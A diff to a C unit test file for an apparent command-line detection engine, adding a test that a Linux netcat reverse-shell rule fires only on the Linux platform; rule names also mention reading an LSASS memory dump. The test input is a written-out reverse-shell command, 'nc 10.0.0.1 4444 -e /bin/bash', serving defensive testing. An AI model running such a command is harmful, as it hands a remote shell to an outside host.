@@ -91,6 +91,18 @@ static void test_platform_separates(void **state)
     assert_null(find("win-lsass-read-dump"));
 }
 
+/* Windows writes " -e" as " /e": what was made of a text there is not for Linux. */
+static void test_texts_are_kept_by_platform(void **state)
+{
+    (void)state;
+    for (int round = 0; round < 2; round++) {
+        gb_init(&gb, round == 0 ? LG_PLATFORM_WINDOWS : LG_PLATFORM_LINUX);
+        gb_line(&gb, "/usr/bin/nc :: nc 10.0.0.1 4444 -e /bin/bash");
+        match(NULL);
+        assert_int_equal(find("linux-netcat-shell") != NULL, round == 1);
+    }
+}
+
 /* What rematch says is what a whole match says, for every set of two removed nodes. */
 static void rematch_equals_match(void)
 {
@@ -392,6 +404,7 @@ int main(void)
             cmocka_unit_test(test_hit_names_node_and_edge),
             cmocka_unit_test(test_a_creation_names_the_child),
             cmocka_unit_test(test_platform_separates),
+            cmocka_unit_test(test_texts_are_kept_by_platform),
             cmocka_unit_test(test_removal),
             cmocka_unit_test(test_floor),
             cmocka_unit_test(test_techniques_are_sorted),
